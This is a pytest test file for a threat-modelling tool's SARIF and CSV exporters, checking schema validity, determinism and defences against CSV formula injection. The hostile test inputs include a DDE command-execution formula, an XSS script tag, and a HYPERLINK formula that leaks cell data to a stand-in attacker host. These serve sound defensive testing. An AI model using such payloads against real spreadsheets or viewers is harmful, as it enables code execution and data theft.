"""SARIF 2.1.0 and CSV exports of the threat register.

SARIF output is validated against the official OASIS SARIF 2.1.0 JSON schema, kept in
tests/data (see tests/data/README.md), offline: the schema's references are all local.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import jsonschema
import pytest

from threatroom import __version__, analyze, analyze_file
from threatroom.knowledge import load_knowledge
from threatroom.model import SystemModel, ThreatModel
from threatroom.model.vocabulary import SEVERITY_ORDER
from threatroom.render.csvout import COLUMNS, safe_cell, to_csv
from threatroom.render.sarif import FINGERPRINT_KEY, LEVELS, to_sarif

from .conftest import EXAMPLES, ROOT, SHARED

SCHEMA_PATH = Path(__file__).parent / "data" / "sarif-schema-2.1.0.json"
SCHEMA_SHA256 = "ddddcccbf95c7c50c037b5b07eff4140556278ca574ff374db46786b5fce7949"

NAMES = ("flask-blog", "mobile-game", "aws-web-app")
TEXT_SEEDS = [SHARED / "examples" / f"{n}.txt" for n in NAMES]
YAML_SEEDS = [EXAMPLES / f"{n}.yaml" for n in NAMES]
SEEDS = TEXT_SEEDS + YAML_SEEDS

EXPECTED_LEVEL = {"Critical": "error", "High": "error", "Medium": "warning", "Low": "note"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_NAMES = (
    "=cmd|'/C calc'!A0",
    "+SUM(A1)",
    "-2+3",
    "@foo",
    "\tTAB",
    "<script>alert(1)</script>",
    '"quoted"',
    "a,b",
    "line1\nline2",
)


# --- fixtures ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def schema() -> dict:
    return json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def validator(schema: dict) -> jsonschema.protocols.Validator:
    cls = jsonschema.validators.validator_for(schema)
    assert cls is jsonschema.Draft4Validator  # the schema declares draft-04
    cls.check_schema(schema)
    return cls(schema, format_checker=cls.FORMAT_CHECKER)


_RESULTS: dict[Path, ThreatModel] = {}


def _analyzed(path: Path) -> ThreatModel:
    if path not in _RESULTS:
        assert path.is_file(), f"missing seed example {path}"
        _RESULTS[path] = analyze_file(path)
    return _RESULTS[path]


def _hostile_model() -> SystemModel:
    types = (
        "web_application",
        "relational_db",
        "api_service",
        "object_storage",
        "cache",
        "message_queue",
        "web_application",
        "api_service",
        "nosql_db",
    )
    comps = [{"id": "visitor", "name": "visitor", "type": "user", "zone": "internet"}]
    comps += [{"id": f"c{i}", "name": n, "type": t, "zone": "dc"} for i, (n, t) in enumerate(zip(HOSTILE_NAMES, types))]
    flows = [
        {
            "id": f"f{i}",
            "source": "visitor" if i == 0 else f"c{i - 1}",
            "target": f"c{i}",
            "label": n,
            "protocol": "http",
        }
        for i, n in enumerate(HOSTILE_NAMES)
    ]
    return SystemModel.model_validate(
        {
            "system": {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")'},
            "components": comps,
            "flows": flows,
            "trust_boundaries": [
                {"id": "internet", "name": "@internet", "kind": "internet"},
                {"id": "dc", "name": "-data centre"},
            ],
        }
    )


@pytest.fixture(scope="module")
def hostile() -> ThreatModel:
    result = analyze(_hostile_model(), load_knowledge())
    assert result.threats, "the hostile model should produce threats"
    return result


def _run(sarif_text: str) -> dict:
    doc = json.loads(sarif_text)
    assert len(doc["runs"]) == 1
    return doc["runs"][0]


def _csv_rows(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    rows = list(reader)
    for row in rows:
        assert None not in row, "a row has more cells than the header"
        assert all(v is not None for v in row.values()), "a row has fewer cells than the header"
    return rows


def _all_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


# --- the schema itself --------------------------------------------------------------------


def test_schema_file_is_the_official_sarif_2_1_0_schema(schema: dict) -> None:
    assert hashlib.sha256(SCHEMA_PATH.read_bytes()).hexdigest() == SCHEMA_SHA256
    assert schema["$schema"] == "http://json-schema.org/draft-04/schema#"
    assert schema["id"] == "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json"
    assert schema["properties"]["version"]["enum"] == ["2.1.0"]
    refs = []

    def walk(node: object) -> None:
        if isinstance(node, dict):
            if "$ref" in node:
                refs.append(node["$ref"])
            for v in node.values():
                walk(v)
        elif isinstance(node, list):
            for v in node:
                walk(v)

    walk(schema)
    assert refs and all(r.startswith("#/definitions/") for r in refs), "validation must need no network"


def test_schema_rejects_a_broken_log(validator: jsonschema.protocols.Validator) -> None:
    """The validator really bites: a wrong level and a result without a message fail."""
    doc = json.loads(to_sarif(_analyzed(YAML_SEEDS[0])))
    doc["runs"][0]["results"][0]["level"] = "fatal"
    del doc["runs"][0]["results"][1]["message"]
    assert len(list(validator.iter_errors(doc))) >= 2


# --- SARIF ------------------------------------------------------------------------------


@pytest.mark.parametrize("path", SEEDS, ids=[f"{p.stem}{p.suffix}" for p in SEEDS])
def test_sarif_is_valid_and_complete(path: Path, validator: jsonschema.protocols.Validator) -> None:
    result = _analyzed(path)
    text = to_sarif(result, str(path))
    doc = json.loads(text)
    validator.validate(doc)
    assert doc["$schema"] == "https://json.schemastore.org/sarif-2.1.0.json"
    assert doc["version"] == "2.1.0"
    run = _run(text)
    driver = run["tool"]["driver"]
    assert driver["name"] == "threatroom"
    assert driver["version"] == __version__

    rules = driver["rules"]
    rule_ids = [r["id"] for r in rules]
    assert len(rule_ids) == len(set(rule_ids))
    assert set(rule_ids) == {t.rule_id for t in result.threats}

    results = run["results"]
    assert len(results) == len(result.threats)
    fingerprints = [r["partialFingerprints"][FINGERPRINT_KEY] for r in results]
    assert len(fingerprints) == len(set(fingerprints))
    assert fingerprints == [t.id for t in result.threats]

    for res, threat in zip(results, result.threats, strict=True):
        assert res["ruleId"] == threat.rule_id
        assert res["ruleId"] in rule_ids
        assert rules[res["ruleIndex"]]["id"] == res["ruleId"]
        assert res["level"] == EXPECTED_LEVEL[threat.severity.value]
        assert res["message"]["text"].startswith(threat.title)
        assert threat.description in res["message"]["text"]
        props = res["properties"]
        assert props["stride"] == threat.stride.value
        assert props["severity"] == threat.severity.value
        assert props["dread"]["score"] == threat.dread.score
        assert props["dread"]["damage"] == threat.dread.damage
        assert props["cwe"] == threat.cwe and props["capec"] == threat.capec
        (loc,) = res["locations"]
        (logical,) = loc["logicalLocations"]
        assert logical["name"] == threat.element_name
        if threat.component_id is not None:
            assert props["component_id"] == threat.component_id
            assert logical["fullyQualifiedName"] == f"component:{threat.component_id}"
            assert logical["kind"] == "module"
        else:
            assert props["flow_id"] == threat.flow_id
            assert logical["fullyQualifiedName"] == f"flow:{threat.flow_id}"
            assert logical["kind"] == "resource"

    by_rule: dict[str, list] = {}
    for t in result.threats:
        by_rule.setdefault(t.rule_id, []).append(t)
    for rule in rules:
        threats = by_rule[rule["id"]]
        worst = max((t.severity for t in threats), key=lambda s: SEVERITY_ORDER[s])
        assert rule["defaultConfiguration"]["level"] == LEVELS[worst]
        assert rule["shortDescription"]["text"] == threats[0].title
        assert rule["fullDescription"]["text"] == threats[0].description
        assert rule["help"]["text"] and rule["help"]["markdown"]
        for m in threats[0].mitigations:
            assert m.title in rule["help"]["text"]
        tags = rule["properties"]["tags"]
        assert "security" in tags and threats[0].stride.value in tags
        assert all(c in tags for t in threats for c in t.cwe)
        severity = rule["properties"]["security-severity"]
        assert isinstance(severity, str)
        assert float(severity) == max(t.dread.score for t in threats)
        assert rule["properties"]["precision"] == "medium"
        if any(t.references for t in threats):
            assert rule["helpUri"].startswith(("https://", "http://"))
        else:
            assert "helpUri" not in rule


@pytest.mark.parametrize("path", SEEDS, ids=[f"{p.stem}{p.suffix}" for p in SEEDS])
def test_sarif_is_deterministic(path: Path) -> None:
    result = _analyzed(path)
    assert to_sarif(result, str(path)) == to_sarif(result, str(path))
    assert to_sarif(result) == to_sarif(analyze_file(path))


@pytest.mark.parametrize("path", TEXT_SEEDS, ids=[p.name for p in TEXT_SEEDS])
def test_sarif_text_regions_point_at_the_evidence(path: Path) -> None:
    """For a plain-words input each region is the span its element was read from."""
    result = _analyzed(path)
    source = path.read_bytes().decode("utf-8-sig")
    run = _run(to_sarif(result, str(path)))
    assert run["columnKind"] == "unicodeCodePoints"
    (artifact,) = run["artifacts"]
    uri = artifact["location"]["uri"]
    evidence = {f"component:{c.id}": c.evidence for c in result.components}
    evidence.update({f"flow:{f.id}": f.evidence for f in result.flows})
    with_region = snippets = 0
    for res in run["results"]:
        physical = res["locations"][0]["physicalLocation"]
        assert physical["artifactLocation"] == {"uri": uri, "index": 0}
        regions = [physical["region"]] if "region" in physical else []
        regions += res["locations"][0].get("annotations", [])
        element = res["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]
        spans = {(e.start, e.end - e.start) for e in evidence[element]}
        assert {(r["charOffset"], r["charLength"]) for r in regions} == spans
        assert [r["charOffset"] for r in regions[1:]] == sorted(r["charOffset"] for r in regions[1:])
        for region in regions:
            start, length = region["charOffset"], region["charLength"]
            assert 0 <= start and start + length <= len(source)
            if "snippet" in region:  # a snippet is exactly the region's text
                assert source[start : start + length] == region["snippet"]["text"]
                snippets += 1
        with_region += bool(regions)
    assert with_region > len(run["results"]) // 2, "most text-derived threats should point at text"
    assert snippets


@pytest.mark.parametrize("path", YAML_SEEDS, ids=[p.name for p in YAML_SEEDS])
def test_sarif_yaml_source_is_a_relative_artifact(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    rel = path.relative_to(ROOT).as_posix()
    for given in (rel, str(path)):  # relative, and absolute under the working directory
        run = _run(to_sarif(_analyzed(path), given))
        assert run["artifacts"] == [
            {"location": {"uri": rel}, "roles": ["analysisTarget"], "mimeType": "application/yaml"}
        ]
        for res in run["results"]:
            assert res["locations"][0]["physicalLocation"]["artifactLocation"] == {"uri": rel, "index": 0}


def test_sarif_without_source_has_logical_locations_only(validator: jsonschema.protocols.Validator) -> None:
    doc = json.loads(to_sarif(_analyzed(TEXT_SEEDS[0])))
    validator.validate(doc)
    run = doc["runs"][0]
    assert "artifacts" not in run
    for res in run["results"]:
        (loc,) = res["locations"]
        assert "physicalLocation" not in loc and loc["logicalLocations"]


def test_sarif_uri_is_percent_encoded(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)
    run = _run(to_sarif(_analyzed(YAML_SEEDS[0]), "my models/a#b.yaml"))
    assert run["artifacts"][0]["location"]["uri"] == "my%20models/a%23b.yaml"
    run = _run(to_sarif(_analyzed(YAML_SEEDS[0]), "c:odd.yaml"))
    assert run["artifacts"][0]["location"]["uri"] == "c%3Aodd.yaml"  # not a 'c:' scheme


def test_sarif_keeps_hostile_text_as_data(hostile: ThreatModel, validator: jsonschema.protocols.Validator) -> None:
    text = to_sarif(hostile, "hostile.yaml")
    doc = json.loads(text)
    validator.validate(doc)
    run = doc["runs"][0]
    assert len(run["results"]) == len(hostile.threats)
    names = {res["locations"][0]["logicalLocations"][0]["name"] for res in run["results"]}
    assert names == {t.element_name for t in hostile.threats}
    component_names = {c.name for c in hostile.components}
    # Every hostile name is kept exactly (the model strips only the tab's surrounding whitespace).
    for name in HOSTILE_NAMES:
        assert name.strip() in component_names
    hit = {n for n in names if n in component_names}
    assert {"=cmd|'/C calc'!A0", "<script>alert(1)</script>", '"quoted"', "line1\nline2"} <= hit
    messages = " ".join(res["message"]["text"] for res in run["results"])
    assert "<script>alert(1)</script>" in messages
    # Markdown help escapes user text: no raw HTML reaches a SARIF viewer.
    for rule in run["tool"]["driver"]["rules"]:
        assert "<script>" not in rule["help"]["markdown"]
    # A name with a newline stays one JSON string value (the document is still one object).
    assert "line1\\nline2" in text


# --- CSV --------------------------------------------------------------------------------


@pytest.mark.parametrize("path", SEEDS, ids=[f"{p.stem}{p.suffix}" for p in SEEDS])
def test_csv_register(path: Path) -> None:
    result = _analyzed(path)
    text = to_csv(result)
    assert text == to_csv(result)  # deterministic
    rows = _csv_rows(text)
    assert len(rows) == len(result.threats)
    assert [r["id"] for r in rows] == [t.id for t in result.threats]
    for row, t in zip(rows, result.threats, strict=True):
        assert row["element"] in (t.element_name, "'" + t.element_name)
        assert row["component_id"] == (t.component_id or "")
        assert row["flow_id"] == (t.flow_id or "")
        assert row["stride"] == t.stride.value
        assert row["severity"] == t.severity.value
        assert float(row["dread_score"]) == t.dread.score
        for factor in ("damage", "reproducibility", "exploitability", "affected_users", "discoverability"):
            assert int(row[factor]) == getattr(t.dread, factor)
        assert row["cwe"] == "; ".join(t.cwe)
        assert row["capec"] == "; ".join(t.capec)
        assert row["mitigations"] == "; ".join(m.title for m in t.mitigations)
    assert not [c for c in _all_cells(text) if c.startswith(TRIGGERS)]
    assert text.count("\r\n") == len(rows) + 1  # one physical line per threat


def test_csv_defends_against_formula_injection(hostile: ThreatModel) -> None:
    # The model strips whitespace round names, so put tab, CR and other line breaks
    # straight into the register too, where a renderer could meet them.
    sneaky = hostile.model_copy(deep=True)
    sneaky.threats[0].element_name = "\tTAB"
    sneaky.threats[0].title = "\r=1+1"
    sneaky.threats[0].description = "\n=2+2"
    if len(sneaky.threats) > 1:
        sneaky.threats[1].element_name = "  =3+3"
        sneaky.threats[1].title = "\uff1dfull-width"
        sneaky.threats[1].description = "ok\r\n@SUM(1)\u2028x"
    for result in (hostile, sneaky):
        text = to_csv(result)
        rows = _csv_rows(text)
        assert len(rows) == len(result.threats)
        assert [r["id"] for r in rows] == [t.id for t in result.threats]
        cells = _all_cells(text)
        bad = [c for c in cells if c.startswith(TRIGGERS) or c.lstrip().startswith(TRIGGERS)]
        assert not bad, bad
        assert not [c for c in cells if "\n" in c or "\r" in c], "line breaks are flattened"
        assert text.count("\r\n") == len(rows) + 1
        assert "\n" not in text.replace("\r\n", "")

    rows = _csv_rows(to_csv(hostile))
    elements = {r["element"] for r in rows}
    assert "'=cmd|'/C calc'!A0" in elements
    assert "=cmd|'/C calc'!A0" not in elements
    # Harmless punctuation survives exactly; newline becomes a space.
    assert {'"quoted"', "a,b", "<script>alert(1)</script>", "line1 line2"} <= elements

    rows = _csv_rows(to_csv(sneaky))
    assert rows[0]["element"] == "'\tTAB"
    assert rows[0]["title"] == "' =1+1"
    assert rows[0]["description"] == "' =2+2"
    if len(rows) > 1:
        assert rows[1]["element"] == "'  =3+3"
        assert rows[1]["title"] == "'\uff1dfull-width"
        assert rows[1]["description"] == "ok @SUM(1) x"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@foo", "'@foo"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "' CR"),
        (" \t=x", "' \t=x"),
        ("line1\nline2", "line1 line2"),
        ("a\r\nb", "a b"),
        ("a,b", "a,b"),
        ('"quoted"', '"quoted"'),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("plain", "plain"),
        ("", ""),
        (None, ""),
        (7, "7"),
    ],
)
def test_safe_cell(value: object, expected: str) -> None:
    assert safe_cell(value) == expected


def test_code_spans_keep_their_pipes_outside_tables() -> None:
    """GFM reads `a \\| b` as `a | b` only inside a table; elsewhere the backslash shows. So
    a code span's pipe is escaped in table cells and left alone in paragraphs and lists."""
    from markdown_it import MarkdownIt

    from threatroom.render.escape import md_cell, md_inline

    hint = "render with `{{ data|tojson }}` and never `|safe`"
    assert md_inline(hint) == "render with `{{ data|tojson }}` and never `|safe`"
    assert md_cell(hint) == "render with `{{ data\\|tojson }}` and never `\\|safe`"
    md = MarkdownIt("commonmark").enable("table")
    table = md.render(f"| Hint | Worst |\n| --- | --- |\n| {md_cell(hint)} | High |\n")
    assert table.count("<td>") == 2 and "<code>{{ data|tojson }}</code>" in table
    assert "<code>|safe</code>" in md.render(f"- {md_inline(hint)}\n")
